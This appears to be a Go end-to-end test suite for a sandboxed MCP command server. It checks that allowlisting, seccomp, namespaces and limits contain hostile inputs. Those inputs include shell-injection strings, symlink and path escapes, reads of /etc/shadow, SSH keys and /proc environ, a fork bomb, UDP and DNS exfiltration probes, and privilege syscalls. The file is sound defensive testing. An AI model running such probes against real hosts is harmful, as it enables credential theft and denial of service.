package e2e

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	alsec "github.com/mcpsandbox/mcpsandbox/internal/schemes/allowlist/section"

	"github.com/mcpsandbox/mcpsandbox/internal/generate"
	"github.com/mcpsandbox/mcpsandbox/policy"
	"github.com/modelcontextprotocol/go-sdk/mcp"
)

func TestAllowedCall(t *testing.T) {
	f := newFixture(t, nil)
	res, r := f.call("wc", "-l", "notes.txt")
	if res.IsError || r.ExitCode != 0 || strings.TrimSpace(r.Stdout) != "4 notes.txt" {
		t.Fatalf("wc: isError=%v %+v %s", res.IsError, r, text(res))
	}
	if !strings.Contains(text(res), "4 notes.txt") || r.TimedOut || r.Truncated {
		t.Errorf("text rendering / flags wrong: %q %+v", text(res), r)
	}
	tools, err := f.cs.ListTools(context.Background(), nil)
	// the file tools (limits.max_file_bytes, on by default) sort around it
	if err != nil || len(tools.Tools) != 4 || tools.Tools[2].Name != "run_allowed_command" {
		t.Fatalf("tools/list = %+v, %v", tools, err)
	}
	if a := tools.Tools[2].Annotations; a == nil || a.ReadOnlyHint || a.OpenWorldHint == nil || *a.OpenWorldHint {
		t.Errorf("annotations not honest for a no-network, workspace-writing tool: %+v", a)
	}
}

// Each refusal must be a tool error naming the rule that refused it.
func TestRefusals(t *testing.T) {
	f := newFixture(t, nil)
	if err := os.Symlink(filepath.Join(f.outside, "canary.txt"), filepath.Join(f.ws, "innocent")); err != nil {
		t.Fatal(err)
	}
	os.Symlink(f.outside, filepath.Join(f.ws, "dirlink"))
	os.Symlink(filepath.Join(f.outside, "new-file"), filepath.Join(f.ws, "dangling"))
	cases := []struct {
		name, rule string
		cmd        string
		args       []string
	}{
		{"not allowlisted", "allowlist.commands", "bash", []string{"-c", "id"}},
		{"denied arg", "deny_args", "wc", []string{"--files0-from=/etc/passwd"}},
		{"denied arg abbreviated", "deny_args", "wc", []string{"--files0=/etc/passwd"}},
		{"dotdot escape", "allowlist.workspace", "cat", []string{"../outside/canary.txt"}},
		{"absolute path", "allowlist.workspace", "cat", []string{filepath.Join(f.outside, "canary.txt")}},
		{"symlink planted in workspace", "allowlist.workspace", "cat", []string{"innocent"}},
		{"symlinked directory", "allowlist.workspace", "cat", []string{"dirlink/canary.txt"}},
		{"dangling symlink", "allowlist.workspace", "sort", []string{"-o", "dangling", "notes.txt"}},
		{"sort -o outside", "allowlist.workspace", "sort", []string{"-o", filepath.Join(f.outside, "pwned"), "notes.txt"}},
		{"sort -o attached", "allowlist.workspace", "sort", []string{"-o../outside/pwned", "notes.txt"}},
		{"uniq IN OUT outside", "allowlist.workspace", "uniq", []string{"notes.txt", "../outside/pwned"}},
		{"proc environ", "allowlist.workspace", "cat", []string{"/proc/self/environ"}},
		{"unknown argument field", "tool.arguments", "", nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var r *mcp.CallToolResult
			if c.cmd != "" {
				r, _ = f.call(c.cmd, c.args...)
			} else { // a field the schema does not have
				var err error
				r, err = f.cs.CallTool(context.Background(), mcpParams(map[string]any{"command": "wc", "args": []string{}, "shell": true}))
				if err != nil {
					t.Fatal(err)
				}
			}
			if !r.IsError {
				t.Fatalf("not refused: %s", text(r))
			}
			if !strings.Contains(text(r), c.rule) {
				t.Errorf("refusal does not name rule %q: %s", c.rule, text(r))
			}
			if f.leaked(text(r)) {
				t.Errorf("refusal leaked a secret: %s", text(r))
			}
		})
	}
	if bad := f.outsideChanged(); len(bad) > 0 {
		t.Errorf("outside changed: %v", bad)
	}
}

func TestShellMetacharactersAreLiteral(t *testing.T) {
	f := newFixture(t, nil)
	for _, arg := range []string{"$(id)", "`id`", "x; id", "x && id", "x | id", "*", "~root", "x > y"} {
		res, r := f.call("wc", arg)
		if res.IsError {
			t.Fatalf("%q refused: %s", arg, text(res))
		}
		if strings.Contains(r.Stdout+r.Stderr, "uid=") || r.ExitCode == 0 {
			t.Errorf("%q was interpreted: %+v", arg, r)
		}
		if !strings.Contains(r.Stderr, arg) {
			t.Errorf("%q not passed literally: %q", arg, r.Stderr)
		}
	}
	if _, err := os.Stat(filepath.Join(f.ws, "y")); err == nil {
		t.Error("redirection created a file")
	}
}

// A pinned binary swapped after the server started is refused: rewritten in place with the
// same size and its mtime put back (so only ctime and content differ: the hash cache's key must
// see it), rewritten in place with another size, and replaced by rename.
func TestSwappedBinaryRefused(t *testing.T) {
	wcBytes, _ := os.ReadFile("/usr/bin/wc")
	headBytes, _ := os.ReadFile("/usr/bin/head")
	// Both padded with zeros to one size: the loader ignores bytes past the ELF's segments.
	size := max(len(wcBytes), len(headBytes))
	pad := func(b []byte) []byte { return append(append([]byte(nil), b...), make([]byte, size-len(b))...) }
	var copyPath string
	f := newFixture(t, func(p *policy.Policy, f *fixture) {
		dir := mkdir(t, f.root, "bin", 0o755)
		copyPath = filepath.Join(dir, "wc")
		write(t, copyPath, string(pad(wcBytes)), 0o755)
		c, err := generate.Pin(copyPath)
		if err != nil {
			t.Fatal(err)
		}
		c.Name = "wc2"
		alsec.Of(p).Commands = append(alsec.Of(p).Commands, c)
	})
	if res, r := f.call("wc2", "-l", "notes.txt"); res.IsError || r.ExitCode != 0 || !strings.Contains(r.Stdout, "4 notes.txt") {
		t.Fatalf("pinned copy does not run: %s", text(res))
	}

	// Same size, same inode, mtime restored: head's code under wc's name.
	sameSize := func(content []byte) {
		t.Helper()
		before, err := os.Stat(copyPath)
		if err != nil {
			t.Fatal(err)
		}
		fh, err := os.OpenFile(copyPath, os.O_WRONLY, 0)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := fh.WriteAt(content, 0); err != nil {
			t.Fatal(err)
		}
		fh.Close()
		if err := os.Chtimes(copyPath, before.ModTime(), before.ModTime()); err != nil {
			t.Fatal(err)
		}
		after, _ := os.Stat(copyPath)
		if after.Size() != before.Size() || !after.ModTime().Equal(before.ModTime()) || !os.SameFile(before, after) {
			t.Fatalf("the swap changed more than content and ctime: %v %v -> %v %v", before.Size(), before.ModTime(), after.Size(), after.ModTime())
		}
	}
	sameSize(pad(headBytes))
	res, r := f.call("wc2", "-l", "notes.txt")
	if !res.IsError || !strings.Contains(text(res), "sha256") {
		t.Fatalf("same-size in-place swap (mtime restored) not refused: %s", text(res))
	}
	if strings.Contains(r.Stdout+text(res), "apple") {
		t.Fatalf("the swapped-in head ran: %s", text(res))
	}
	// Control: the original content put back the same way runs again, so the refusal was the
	// content, seen through the cache key's ctime.
	sameSize(pad(wcBytes))
	if res, r := f.call("wc2", "-l", "notes.txt"); res.IsError || !strings.Contains(r.Stdout, "4 notes.txt") {
		t.Fatalf("restored binary refused: %s", text(res))
	}

	write(t, copyPath, string(headBytes), 0o755) // in place, another size
	if res, _ := f.call("wc2", "-l", "notes.txt"); !res.IsError || !strings.Contains(text(res), "sha256") {
		t.Fatalf("in-place swap not refused: %s", text(res))
	}
	write(t, copyPath, string(pad(wcBytes)), 0o755)
	if res, _ := f.call("wc2", "notes.txt"); res.IsError {
		t.Fatalf("restored binary refused: %s", text(res))
	}
	tmp := copyPath + ".new"
	write(t, tmp, string(headBytes), 0o755)
	if err := os.Rename(tmp, copyPath); err != nil { // by rename: a new inode
		t.Fatal(err)
	}
	if res, _ := f.call("wc2", "notes.txt"); !res.IsError || !strings.Contains(text(res), "sha256") {
		t.Fatalf("rename swap not refused: %s", text(res))
	}
}

func TestPathHijackIgnored(t *testing.T) {
	f := newFixture(t, nil)
	hijack := "#!/bin/sh\necho HIJACKED\n"
	write(t, filepath.Join(f.ws, "wc"), hijack, 0o777)
	os.Mkdir(filepath.Join(f.ws, "bin"), 0o777)
	write(t, filepath.Join(f.ws, "bin", "wc"), hijack, 0o777)
	res, r := f.call("wc", "-l", "notes.txt")
	if res.IsError || strings.Contains(r.Stdout, "HIJACKED") || !strings.Contains(r.Stdout, "4 notes.txt") {
		t.Fatalf("planted wc ran or real wc failed: %s", text(res))
	}
	// Even an interpreter inside the sandbox cannot execute what is planted in the workspace.
	_, r = f.py("import os; os.execv('./wc', ['wc'])")
	if strings.Contains(r.Stdout, "HIJACKED") || r.ExitCode == 0 {
		t.Fatalf("python exec'd a planted binary: %+v", r)
	}
}

func TestNoSecretsReachCommands(t *testing.T) {
	f := newFixture(t, nil)
	_, r := f.py(`
import os, glob
print(dict(os.environ))
for p in ['/proc/self/environ', '/proc/1/environ', '/proc/%d/environ' % os.getppid()] + glob.glob('/proc/*/environ'):
    try: print(p, open(p,'rb').read())
    except Exception as e: print(p, 'ERR', type(e).__name__)
for p in ['HOME_SSH', 'CANARY']:
    pass
`)
	if f.leaked(r.Stdout + r.Stderr) {
		t.Fatalf("server secret reached the command: %s", r.Stdout)
	}
	if !strings.Contains(r.Stdout, "'LANG': 'C.UTF-8'") {
		t.Errorf("environment is not the policy's: %s", r.Stdout)
	}
	_, r = f.py(fmt.Sprintf(`
for p in [%q, %q, '/etc/shadow', '/root/.bash_history']:
    try: print(open(p).read())
    except Exception as e: print('ERR', type(e).__name__)
`, filepath.Join(f.home, ".ssh", "id_rsa"), filepath.Join(f.outside, "canary.txt")))
	// Denied (PermissionError), or not even visible under the call's private /tmp (FileNotFoundError).
	if f.leaked(r.Stdout+r.Stderr) || strings.Count(r.Stdout, "ERR PermissionError")+strings.Count(r.Stdout, "ERR FileNotFoundError") != 4 {
		t.Fatalf("host files readable from the sandbox: %s %s", r.Stdout, r.Stderr)
	}
}

func TestPythonAttacksContained(t *testing.T) {
	f := newFixture(t, nil)
	t.Run("fork bomb", func(t *testing.T) {
		// Judged by a process count from the host: the call's processes (its tag rides in every
		// fork's argv), sampled every 10ms, never more than limits.pids at once (+1: the helper,
		// PID 1 of the call's namespace). TestDetectorsFire shows the counter count a tree.
		stop := make(chan struct{})
		peak := make(chan int, 1)
		go func() { peak <- peakProcs(f.tag, stop) }()
		res, r := f.py(`
import os
while True:
    try: os.fork()
    except OSError: pass
`)
		close(stop)
		n := <-peak
		if res.IsError {
			t.Fatalf("call error: %s", text(res))
		}
		if !r.TimedOut && r.ExitCode == 0 {
			t.Errorf("fork bomb finished cleanly? %+v", r)
		}
		if limit := f.pol.Limits.Pids; n > limit+1 {
			t.Errorf("the fork bomb ran %d processes at once, limits.pids = %d", n, limit)
		} else {
			t.Logf("peak %d processes at once, limits.pids = %d", n, limit)
		}
		if s := survivors(f.tag); len(s) > 0 {
			t.Fatalf("fork bomb left %d processes", len(s))
		}
		if !f.responsive() {
			t.Fatal("host stopped answering after the fork bomb")
		}
	})
	t.Run("tcp connect to loopback", func(t *testing.T) {
		_, r := f.py(fmt.Sprintf(`
import socket
for host in ['127.0.0.1', 'localhost', '::1']:
    try: socket.create_connection((host, %d), timeout=1); print('CONNECTED', host)
    except Exception as e: print('ERR', host, e)
`, f.a.TCPPort()))
		if strings.Contains(r.Stdout, "CONNECTED") || f.a.TCPHits() != 0 {
			t.Fatalf("TCP reached the listener: %s (accepts %d)", r.Stdout, f.a.TCPHits())
		}
	})
	t.Run("udp send to loopback", func(t *testing.T) {
		_, r := f.py(fmt.Sprintf(`
import socket
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for i in range(5): s.sendto(b'exfil', ('127.0.0.1', %d))
    print('SENT')
except Exception as e: print('ERR', e)
`, f.a.UDPPort()))
		time.Sleep(200 * time.Millisecond)
		if f.a.UDPHits() != 0 {
			t.Fatalf("UDP reached the listener: %s (%d packets)", r.Stdout, f.a.UDPHits())
		}
	})
	t.Run("dns lookup", func(t *testing.T) {
		// Judged by the arena's stub resolver, which records every query: a tagged name sent to
		// it straight, and through the system resolver. TestDetectorsFire shows the stub see
		// the same query when network = true.
		_, r := f.py(dnsProbe(f))
		time.Sleep(200 * time.Millisecond)
		if q := f.a.DNSQueries(); len(q) > 0 {
			t.Fatalf("a DNS query left the sandbox: %v (%s)", q, r.Stdout)
		}
		if !strings.Contains(r.Stdout, "stub:") {
			t.Fatalf("the DNS probe did not run: %+v", r)
		}
	})
	t.Run("write outside workspace", func(t *testing.T) {
		_, r := f.py(fmt.Sprintf(`
import os
for p in [%q, %q, %q, '/tmp/mcpsandbox-pwned']:
    try:
        with open(p, 'a') as fh: fh.write('pwned')
        print('WROTE', p)
    except Exception as e: print('ERR', p, type(e).__name__)
try: os.truncate(%q, 0); print('TRUNCATED')
except Exception as e: print('ERR truncate', type(e).__name__)
with open('inside.txt', 'w') as fh: fh.write('ok')
print('INSIDE OK')
`, filepath.Join(f.outside, "pwned"), filepath.Join(f.outside, "canary.txt"), filepath.Join(f.home, ".bashrc"), filepath.Join(f.outside, "canary.txt")))
		// /tmp is the call's own tmpfs: writing there is allowed and must not reach the host's
		// /tmp (checked below, from the host).
		if strings.Count(r.Stdout, "WROTE") > strings.Count(r.Stdout, "WROTE /tmp/mcpsandbox-pwned") || strings.Contains(r.Stdout, "TRUNCATED") {
			t.Errorf("wrote outside: %s", r.Stdout)
		}
		if bad := f.outsideChanged(); len(bad) > 0 {
			t.Errorf("outside changed: %v", bad)
		}
		if _, err := os.Stat("/tmp/mcpsandbox-pwned"); err == nil {
			os.Remove("/tmp/mcpsandbox-pwned")
			t.Error("wrote /tmp")
		}
		if !strings.Contains(r.Stdout, "INSIDE OK") {
			t.Errorf("could not write inside the workspace: %s %s", r.Stdout, r.Stderr)
		}
	})
	t.Run("setsid survivor past the timeout", func(t *testing.T) {
		start := time.Now()
		_, r := f.py(`
import os, time
if os.fork() == 0:
    os.setsid()          # a new session: out of the caller's process group
    if os.fork() == 0:   # double fork: orphaned, reparented away from the caller
        time.sleep(120)
    os._exit(0)
time.sleep(120)
`)
		if !r.TimedOut {
			t.Errorf("not reported as timed out: %+v", r)
		}
		if d := time.Since(start); d > 15*time.Second {
			t.Errorf("call took %s with a 3s timeout", d)
		}
		if s := survivors(f.tag); len(s) > 0 {
			t.Fatalf("setsid/double-fork survivors: %v", s)
		}
	})
	t.Run("grandchild holding stdout", func(t *testing.T) {
		_, r := f.py(`
import os, time
if os.fork() == 0:
    time.sleep(120)
print('parent done')
`)
		if r.TimedOut || !strings.Contains(r.Stdout, "parent done") {
			t.Errorf("call hung on a grandchild holding stdout: %+v", r)
		}
		if s := survivors(f.tag); len(s) > 0 {
			t.Fatalf("grandchild survived: %v", s)
		}
	})
	t.Run("privilege", func(t *testing.T) {
		// ptrace targets the arena's sibling: a process of the sandbox's uid outside the
		// sandbox, which a command could trace without the PID namespace and seccomp. Seccomp
		// answers EPERM before the kernel looks; ESRCH would mean only the PID namespace hid it.
		// mknod of a FIFO is allowed to any uid by the kernel: only the seccomp filter refuses
		// it (EPERM), so the errno and the node's absence are the layer's. TestDetectorsFire
		// runs the same probe outside the sandbox: ptrace and the FIFO succeed there.
		_, r := f.py(privilegeProbe(f))
		got := syscallResults(r.Stdout)
		for _, name := range []string{"ptrace_attach_sibling", "mknodat_fifo", "mknodat_chr", "unshare_user", "setuid0"} {
			e, ok := got[name]
			switch {
			case !ok:
				t.Errorf("the probe printed no result for %s: %s %s", name, r.Stdout, r.Stderr)
			case e.ret >= 0:
				t.Errorf("%s succeeded inside the sandbox: %s", name, r.Stdout)
			case e.errno != 1:
				t.Errorf("%s failed with errno %d, not seccomp's EPERM: the kernel saw it", name, e.errno)
			}
		}
		if h := f.a.SiblingTouched(); h != "" {
			t.Errorf("the sibling process outside the sandbox was %s", h)
		}
		for _, n := range []string{"fifo0", "dev0"} {
			if _, err := os.Lstat(filepath.Join(f.ws, n)); err == nil {
				t.Errorf("mknod made %s in the workspace", n)
			}
		}
		if strings.Contains(r.Stdout, "uid 0") {
			t.Errorf("became root: %s", r.Stdout)
		}
	})
	t.Run("output flood truncated", func(t *testing.T) {
		_, r := f.py("import sys\nsys.stdout.write('x' * 500000)\nsys.stderr.write('y' * 500000)")
		if !r.Truncated || len(r.Stdout) > int(f.pol.Limits.MaxOutputBytes) || len(r.Stderr) > int(f.pol.Limits.MaxOutputBytes) {
			t.Fatalf("output not capped: truncated=%v stdout=%d stderr=%d", r.Truncated, len(r.Stdout), len(r.Stderr))
		}
	})
	if !f.responsive() {
		t.Fatal("host not answering at the end")
	}
}

// Cancelling a call from the client kills the command's whole tree.
func TestClientCancelKillsTree(t *testing.T) {
	f := newFixture(t, func(p *policy.Policy, _ *fixture) { p.Limits.Timeout = policy.Duration{Duration: time.Minute} })
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		defer close(done)
		f.cs.CallTool(ctx, mcpParams(map[string]any{"command": "python3", "args": []string{"-c",
			"import os,time\nif os.fork()==0:\n    os.setsid(); time.sleep(120)\ntime.sleep(120)", f.tag}}))
	}()
	// wait until the command runs, then cancel
	deadline := time.Now().Add(10 * time.Second)
	for len(procsWith(f.tag)) < 2 && time.Now().Before(deadline) {
		time.Sleep(50 * time.Millisecond)
	}
	if len(procsWith(f.tag)) < 2 {
		t.Fatal("command never started")
	}
	cancel()
	<-done
	if s := survivors(f.tag); len(s) > 0 {
		t.Fatalf("processes survived cancellation: %v", s)
	}
	if !f.responsive() {
		t.Fatal("server not answering after cancel")
	}
}

// max_concurrent = 1: calls fired together never overlap. Each call counts the marker files of
// the calls running beside it; no timing is asserted.
func TestMaxConcurrent(t *testing.T) {
	// A queued call waits up to the timeout for its slot: generous, so a loaded machine's slow
	// interpreter starts queue the calls rather than refuse them.
	f := newFixture(t, func(p *policy.Policy, _ *fixture) {
		p.Limits.MaxConcurrent = 1
		p.Limits.Timeout.Duration = 20 * time.Second
	})
	const n = 4
	out := make(chan string, n)
	for i := 0; i < n; i++ {
		go func(i int) {
			res, r := f.py(fmt.Sprintf(`
import os, time
open('running-%d', 'w').close()
time.sleep(0.3)
print(len([x for x in os.listdir('.') if x.startswith('running-')]))
os.remove('running-%d')
`, i, i))
			got := strings.TrimSpace(r.Stdout)
			if got == "" {
				got = fmt.Sprintf("no count (exit %d, stderr %q, %q)", r.ExitCode, r.Stderr, text(res))
			}
			out <- got
		}(i)
	}
	for i := 0; i < n; i++ {
		if got := <-out; got != "1" {
			t.Errorf("a call saw %s calls running at once (max_concurrent = 1)", got)
		}
	}
}

// peakProcs counts, every 10ms until stop, the processes whose argv carries the tag, and
// returns the most seen at once.
func peakProcs(tag string, stop chan struct{}) int {
	peak := 0
	for {
		peak = max(peak, len(procsWith(tag)))
		select {
		case <-stop:
			return peak
		case <-time.After(10 * time.Millisecond):
		}
	}
}

// dnsProbe asks the arena's stub resolver for a tagged name, straight and through the
// system resolver.
func dnsProbe(f *fixture) string {
	return fmt.Sprintf(`
import socket, struct, sys
name = sys.argv[1] + '.exfil.test'
try: print('RESOLVED', socket.getaddrinfo(name, 80))
except Exception as e: print('resolver:', e)
q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)
q += b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\0' + struct.pack('>HH', 1, 1)
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.sendto(q, ('127.0.0.1', %d))
    print('stub: answer', len(s.recv(512)))
except Exception as e: print('stub:', e)
`, f.a.DNSPort())
}

// privilegeProbe prints `SYSCALL name ret errno` for each privileged operation.
func privilegeProbe(f *fixture) string {
	return fmt.Sprintf(`
import os, ctypes, stat
libc = ctypes.CDLL(None, use_errno=True)
print('uid', os.getuid(), os.geteuid())
def probe(name, nr, *args):
    ctypes.set_errno(0)
    r = libc.syscall(nr, *args)
    print('SYSCALL', name, r, ctypes.get_errno() if r < 0 else 0)
probe('ptrace_attach_sibling', 101, 16, %d, 0, 0)
probe('mknodat_fifo', 259, -100, ctypes.c_char_p(b'fifo0'), stat.S_IFIFO | 0o600, 0)
probe('mknodat_chr', 259, -100, ctypes.c_char_p(b'dev0'), stat.S_IFCHR | 0o600, os.makedev(1, 3))
probe('unshare_user', 272, 0x10000000)
probe('setuid0', 105, 0)
`, f.a.SiblingPID())
}

type sysResult struct{ ret, errno int }

// syscallResults parses the probe's `SYSCALL name ret errno` lines.
func syscallResults(out string) map[string]sysResult {
	m := map[string]sysResult{}
	for _, line := range strings.Split(out, "\n") {
		var name string
		var r sysResult
		if n, _ := fmt.Sscanf(line, "SYSCALL %s %d %d", &name, &r.ret, &r.errno); n == 3 {
			m[name] = r
		}
	}
	return m
}

func procsWith(tag string) []string {
	var found []string
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		b, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		if err == nil && strings.Contains(string(b), tag) {
			found = append(found, e.Name())
		}
	}
	return found
}

func TestMalformedPolicyLocated(t *testing.T) {
	dir := t.TempDir()
	p := filepath.Join(dir, "bad.toml")
	write(t, p, "version = 1\nscheme = \"allowlist\"\n[limits]\ntimeout = \"forever\"\n", 0o644)
	out, err := exec.Command(binPath, "serve", "--policy", p).CombinedOutput()
	if err == nil {
		t.Fatal("serve accepted a malformed policy")
	}
	if !strings.Contains(string(out), p+":4") || !strings.Contains(string(out), "limits.timeout") || !strings.Contains(string(out), "fix:") {
		t.Fatalf("error not located with a fix: %s", out)
	}
}
